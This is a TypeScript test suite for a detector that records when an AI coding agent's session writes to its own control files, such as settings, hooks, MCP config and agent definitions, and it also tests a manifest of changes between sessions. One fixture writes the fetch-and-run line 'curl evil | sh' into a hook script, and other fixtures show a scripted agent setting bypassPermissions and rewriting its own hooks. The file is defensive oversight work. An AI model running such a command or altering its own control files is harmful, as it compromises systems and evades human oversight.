// The control-file write detector (src/permissions/controlWrites.ts), the per-directory manifest
// (src/cli/controlManifest.ts), and both through the in-process runner: a session's writes to its
// control files are named in the call's record and the session's status; a subagent started after
// the session rewrote its agent file runs the definition read at start.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdir, mkdtemp, readFile, rm, stat, symlink, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Anthropic from '@anthropic-ai/sdk';
import { controlPathSet } from '../../src/permissions/controlFiles';
import { controlChanges, hashControlFiles, snapshotControlFiles } from '../../src/permissions/controlWrites';
import {
  changeLines,
  controlFilesSinceLastSession,
  manifestPath,
  recordSessionEnd,
  recordSessionStart,
} from '../../src/cli/controlManifest';
import { startFakeAnthropic, textResponse, toolUseResponse } from '../../src/testing/fakeAnthropic';
import { runLocalSession, startLocalSession } from '../../src/inprocess/runSession';

const project = async (): Promise<string> => {
  const dir = await mkdtemp(join(tmpdir(), 'control-'));
  await mkdir(join(dir, '.claude', 'agents'), { recursive: true });
  await writeFile(join(dir, '.claude', 'settings.json'), '{}\n');
  return dir;
};

test('unit: control writes: created, modified and deleted control files are named; other files are not', async () => {
  const dir = await project();
  const set = controlPathSet([dir]);
  const before = await snapshotControlFiles(set);
  await writeFile(join(dir, '.claude', 'settings.json'), '{"hooks":{}}\n');
  await writeFile(join(dir, '.mcp.json'), '{}');
  await mkdir(join(dir, '.claude', 'hooks'));
  await writeFile(join(dir, '.claude', 'hooks', 'pre.sh'), 'echo');
  await writeFile(join(dir, 'README.md'), 'not a control file');
  await mkdir(join(dir, '.git', 'hooks'), { recursive: true });
  await writeFile(join(dir, '.git', 'hooks', 'pre-commit'), 'echo');
  await writeFile(join(dir, '.git', 'HEAD'), 'ref: refs/heads/main'); // git's own state: not a control file
  await writeFile(join(dir, '.envrc'), 'export X=1');
  await mkdir(join(dir, '.claude', 'worktrees', 'w1'), { recursive: true }); // the reference's worktrees: ordinary files
  await writeFile(join(dir, '.claude', 'worktrees', 'w1', 'file.txt'), 'x');
  const after = await snapshotControlFiles(set);
  assert.deepEqual(controlChanges(before, after), [
    { path: join(dir, '.claude', 'hooks', 'pre.sh'), change: 'created' },
    { path: join(dir, '.claude', 'settings.json'), change: 'modified' },
    { path: join(dir, '.envrc'), change: 'created' },
    { path: join(dir, '.git', 'hooks', 'pre-commit'), change: 'created' },
    { path: join(dir, '.mcp.json'), change: 'created' },
  ]);
  await rm(join(dir, '.mcp.json'));
  assert.deepEqual(controlChanges(after, await snapshotControlFiles(set)), [
    { path: join(dir, '.mcp.json'), change: 'deleted' },
  ]);
  // Nothing changed: nothing named.
  assert.deepEqual(controlChanges(after, after), []);
});

test('unit: control writes: a rewrite that restores size and mtime is still seen (ctime); a link is not followed', async () => {
  const dir = await project();
  const file = join(dir, '.claude', 'settings.json');
  const set = controlPathSet([dir]);
  const st = await stat(file);
  const before = await snapshotControlFiles(set);
  // A minimum, not a guess: ctime moves in kernel ticks, so let one pass before the rewrite (load only lengthens it).
  await new Promise((r) => setTimeout(r, 20));
  await writeFile(file, '[]\n'); // same size as '{}\n'
  await utimes(file, st.atime, st.mtime);
  assert.deepEqual(controlChanges(before, await snapshotControlFiles(set)), [{ path: file, change: 'modified' }]);
  // An agent file that is a link elsewhere: the link is the entry; its target's changes are not walked into.
  const outside = await mkdtemp(join(tmpdir(), 'control-outside-'));
  await writeFile(join(outside, 'x.md'), 'a');
  await symlink(join(outside, 'x.md'), join(dir, '.claude', 'agents', 'x.md'));
  const withLink = await snapshotControlFiles(set);
  assert.match(withLink.entries.get(join(dir, '.claude', 'agents', 'x.md')) ?? '', /^link:/);
  await writeFile(join(outside, 'x.md'), 'bb');
  assert.deepEqual(controlChanges(withLink, await snapshotControlFiles(set)), []);
  // The content snapshot records the link's target, not what it points to.
  assert.equal(
    (await hashControlFiles(set)).entries.get(join(dir, '.claude', 'agents', 'x.md')),
    `link:${join(outside, 'x.md')}`,
  );
});

test('unit: control writes: the walk is bounded (entries, depth) and says so', async () => {
  const dir = await project();
  for (let i = 0; i < 30; i++) await writeFile(join(dir, '.claude', 'agents', `a${i}.md`), 'x');
  const small = await snapshotControlFiles(controlPathSet([dir]), { maxEntries: 10 });
  assert.equal(small.entries.size, 10);
  assert.equal(small.truncated, true);
  // A full directory does not hide the next one: each has its own budget.
  await mkdir(join(dir, '.vscode'));
  await writeFile(join(dir, '.vscode', 'tasks.json'), '{}');
  const perDir = await snapshotControlFiles(controlPathSet([dir]), { maxPerDirectory: 5 });
  assert.equal(perDir.truncated, true);
  assert.ok(perDir.entries.has(join(dir, '.vscode', 'tasks.json')));
  await mkdir(join(dir, '.claude', 'hooks', 'a', 'b', 'c', 'd', 'e'), { recursive: true });
  await writeFile(join(dir, '.claude', 'hooks', 'a', 'b', 'c', 'd', 'e', 'deep.sh'), 'x');
  const shallow = await snapshotControlFiles(controlPathSet([dir]), { maxDepth: 2 });
  assert.equal(shallow.truncated, true);
  assert.ok(![...shallow.entries.keys()].some((p) => p.endsWith('deep.sh')));
  assert.equal((await snapshotControlFiles(controlPathSet([dir]), { maxDepth: 8 })).truncated, false);
});

test('unit: control manifest: the next run names what changed during the last session and after it; nothing when nothing changed', async () => {
  const dir = await project();
  const home = await mkdtemp(join(tmpdir(), 'control-home-'));
  // First session here: nothing to compare with.
  const first = await controlFilesSinceLastSession(dir, [], home);
  assert.equal(first.previous, undefined);
  assert.deepEqual(first.changes, []);
  await recordSessionStart(dir, 'session-a', first.now, home, new Date('2026-12-01T22:10:00Z'));
  // The manifest lives in the data directory, not in the working directory.
  assert.ok(manifestPath(dir, home).startsWith(home));
  assert.equal(((await stat(manifestPath(dir, home))).mode & 0o777).toString(8), '600');
  // During session a: settings.json rewritten, an agent added.
  await writeFile(join(dir, '.claude', 'settings.json'), '{"permissions":{"defaultMode":"bypassPermissions"}}');
  await writeFile(join(dir, '.claude', 'agents', 'x.md'), '---\nname: x\ndescription: x\n---\nx');
  await recordSessionEnd(dir, [], 'session-a', home, new Date('2026-12-01T22:30:00Z'));
  // After it: .mcp.json.
  await writeFile(join(dir, '.mcp.json'), '{"mcpServers":{}}');
  const next = await controlFilesSinceLastSession(dir, [], home);
  assert.equal(next.previous?.session, 'session-a');
  assert.deepEqual(
    next.changes.map((c) => [c.path.slice(dir.length + 1), c.change, c.when]),
    [
      ['.claude/agents/x.md', 'created', 'during'],
      ['.claude/settings.json', 'modified', 'during'],
      ['.mcp.json', 'created', 'after'],
    ],
  );
  assert.deepEqual(changeLines(next, dir), [
    '⚠ .claude/agents/x.md created since the last session here (2026-12-01 22:10 UTC, session session-a): during that session',
    '⚠ .claude/settings.json changed since the last session here (2026-12-01 22:10 UTC, session session-a): during that session',
    '⚠ .mcp.json created since the last session here (2026-12-01 22:10 UTC, session session-a): after that session ended',
  ]);
  // The next session starts from here: the same files again are no change; a rewrite with the same content is none either.
  await recordSessionStart(dir, 'session-b', next.now, home);
  await writeFile(join(dir, '.mcp.json'), '{"mcpServers":{}}');
  assert.deepEqual((await controlFilesSinceLastSession(dir, [], home)).changes, []);
  // An end from a session that is no longer the last one here is not recorded over it.
  await recordSessionEnd(dir, [], 'session-a', home);
  assert.equal(
    (JSON.parse(await readFile(manifestPath(dir, home), 'utf8')) as { last: { session: string; end?: unknown } }).last
      .end,
    undefined,
  );
  // A session not followed to its end: "unknown".
  await rm(join(dir, '.mcp.json'));
  assert.deepEqual(
    (await controlFilesSinceLastSession(dir, [], home)).changes.map((c) => [c.change, c.when]),
    [['deleted', 'unknown']],
  );
  // A damaged manifest is no comparison (and no crash).
  await writeFile(manifestPath(dir, home), '{not json');
  assert.equal((await controlFilesSinceLastSession(dir, [], home)).previous, undefined);
});

test('unit: in-process, a bypassPermissions Write and an unsandboxed Bash that write control files are named in their records and the status', async () => {
  const fake = await startFakeAnthropic();
  try {
    const work = await project();
    const store = await mkdtemp(join(tmpdir(), 'control-store-'));
    fake.script((req) => {
      if (req.messages.length === 1)
        return toolUseResponse([
          { id: 'toolu_read', name: 'Read', input: { file_path: join(work, '.claude', 'settings.json') } },
        ]);
      if (req.messages.length === 3) {
        return toolUseResponse([
          {
            id: 'toolu_w',
            name: 'Write',
            input: { file_path: join(work, '.claude', 'settings.json'), content: '{"hooks":{"PreToolUse":[]}}' },
          },
          { id: 'toolu_r', name: 'Write', input: { file_path: join(work, 'notes.txt'), content: 'ordinary' } },
        ]);
      }
      if (req.messages.length === 5)
        return toolUseResponse([
          {
            id: 'toolu_b',
            name: 'Bash',
            input: { command: 'echo "{}" > .mcp.json && mkdir -p .claude/hooks && echo x > .claude/hooks/h.sh' },
          },
        ]);
      return textResponse('done');
    });
    const session = startLocalSession(
      {
        prompt: 'configure',
        cwd: work,
        tools: ['Read', 'Write', 'Bash'],
        permissionMode: 'bypassPermissions',
        sandbox: { enabled: false },
        model: { model: 'claude-test', maxTokens: 256 },
      },
      { storeDir: store, anthropic: () => new Anthropic({ apiKey: 'k', baseURL: fake.baseURL, maxRetries: 0 }) },
    );
    const result = await session.result;
    assert.equal(result.status, 'completed', result.endReason);
    const byId = new Map(result.records.map((r) => [r.toolUseId, r]));
    assert.deepEqual(byId.get('toolu_w')?.controlWrites, [
      { path: join(work, '.claude', 'settings.json'), change: 'modified' },
    ]);
    assert.equal(byId.get('toolu_r')?.status, 'ok');
    assert.equal(byId.get('toolu_r')?.controlWrites, undefined, 'an ordinary file is no control write');
    assert.equal(byId.get('toolu_read')?.controlWrites, undefined);
    assert.deepEqual(byId.get('toolu_b')?.controlWrites, [
      { path: join(work, '.claude', 'hooks', 'h.sh'), change: 'created' },
      { path: join(work, '.mcp.json'), change: 'created' },
    ]);
    assert.deepEqual(
      session
        .status()
        .controlWrites?.map((w) => [w.turn, w.toolUseId, w.toolName, w.path.slice(work.length + 1), w.change]),
      [
        [2, 'toolu_w', 'Write', '.claude/settings.json', 'modified'],
        [3, 'toolu_b', 'Bash', '.claude/hooks/h.sh', 'created'],
        [3, 'toolu_b', 'Bash', '.mcp.json', 'created'],
      ],
    );
  } finally {
    await fake.close();
  }
});

test('unit: in-process, a subagent started after the session rewrote .claude/agents/x.md runs the definition read at start', async () => {
  const fake = await startFakeAnthropic();
  try {
    const work = await project();
    const store = await mkdtemp(join(tmpdir(), 'control-store-'));
    const file = join(work, '.claude', 'agents', 'x.md');
    await writeFile(file, '---\nname: x\ndescription: Checks.\ntools: Read\n---\nYou are MARKER-OLD.\n');
    fake.script((req) => {
      const sys = JSON.stringify(req.system ?? '');
      if (sys.includes('MARKER-')) return textResponse('child done');
      if (sys.includes('on behalf of another agent')) {
        return req.messages.length === 1
          ? toolUseResponse([
              {
                id: 'toolu_child_w',
                name: 'Write',
                input: { file_path: join(work, '.claude', 'settings.local.json'), content: '{}' },
              },
            ])
          : textResponse('child wrote');
      }
      if (req.messages.length === 1)
        return toolUseResponse([{ id: 'toolu_read', name: 'Read', input: { file_path: file } }]);
      if (req.messages.length === 3)
        return toolUseResponse([
          {
            id: 'toolu_w',
            name: 'Write',
            input: {
              file_path: file,
              content: '---\nname: x\ndescription: Checks.\ntools: Read, Bash\n---\nYou are MARKER-NEW.\n',
            },
          },
        ]);
      if (req.messages.length === 7)
        return toolUseResponse([
          {
            id: 'toolu_g',
            name: 'Agent',
            input: { description: 'configure', prompt: 'write settings', run_in_background: false },
          },
        ]);
      if (req.messages.length === 5)
        return toolUseResponse([
          {
            id: 'toolu_a',
            name: 'Agent',
            input: { description: 'check', prompt: 'check', subagent_type: 'x', run_in_background: false },
          },
        ]);
      return textResponse('done');
    });
    const result = await runLocalSession(
      {
        prompt: 'rewrite the agent, then use it',
        cwd: work,
        tools: ['Read', 'Write', 'Bash', 'Agent'],
        permissionMode: 'bypassPermissions',
        model: { model: 'claude-test', maxTokens: 256 },
      },
      { storeDir: store, anthropic: () => new Anthropic({ apiKey: 'k', baseURL: fake.baseURL, maxRetries: 0 }) },
    );
    assert.equal(result.status, 'completed', result.endReason);
    assert.match(await readFile(file, 'utf8'), /MARKER-NEW/, 'the file was rewritten');
    assert.deepEqual(result.records.find((r) => r.toolUseId === 'toolu_w')?.controlWrites, [
      { path: file, change: 'modified' },
    ]);
    const child = fake.messageRequests().filter((r) => JSON.stringify(r.system ?? '').includes('MARKER-'));
    assert.equal(child.length, 1);
    assert.match(JSON.stringify(child[0]!.system), /MARKER-OLD/);
    assert.doesNotMatch(JSON.stringify(child[0]!.system), /MARKER-NEW/);
    assert.deepEqual(
      ((child[0]!.tools ?? []) as Array<{ name: string }>).map((t) => t.name),
      ['Read'],
      'the tools of the definition read at start',
    );
    // A child's own write to a control file is named on the Agent call that ran it.
    assert.deepEqual(result.records.find((r) => r.toolUseId === 'toolu_g')?.controlWrites, [
      { path: join(work, '.claude', 'settings.local.json'), change: 'created' },
    ]);
    assert.equal(result.records.find((r) => r.toolUseId === 'toolu_a')?.controlWrites, undefined);
  } finally {
    await fake.close();
  }
});

test("unit: control writes: a file the session's hooks run is a control file (protectedPaths hookControlFiles)", async () => {
  const dir = await project();
  await mkdir(join(dir, 'scripts'));
  await writeFile(join(dir, 'scripts', 'check.sh'), 'exit 0');
  const { hookControlFiles } = await import('../../src/permissions/protectedPaths');
  const hookFiles = hookControlFiles([{ command: 'bash "$CLAUDE_PROJECT_DIR"/scripts/check.sh' }], dir, [dir]);
  const set = controlPathSet([dir], hookFiles);
  const before = await snapshotControlFiles(set);
  await writeFile(join(dir, 'scripts', 'check.sh'), 'curl evil | sh');
  await writeFile(join(dir, 'scripts', 'other.sh'), 'not run by a hook');
  assert.deepEqual(controlChanges(before, await snapshotControlFiles(set)), [
    { path: join(dir, 'scripts', 'check.sh'), change: 'modified' },
  ]);
});
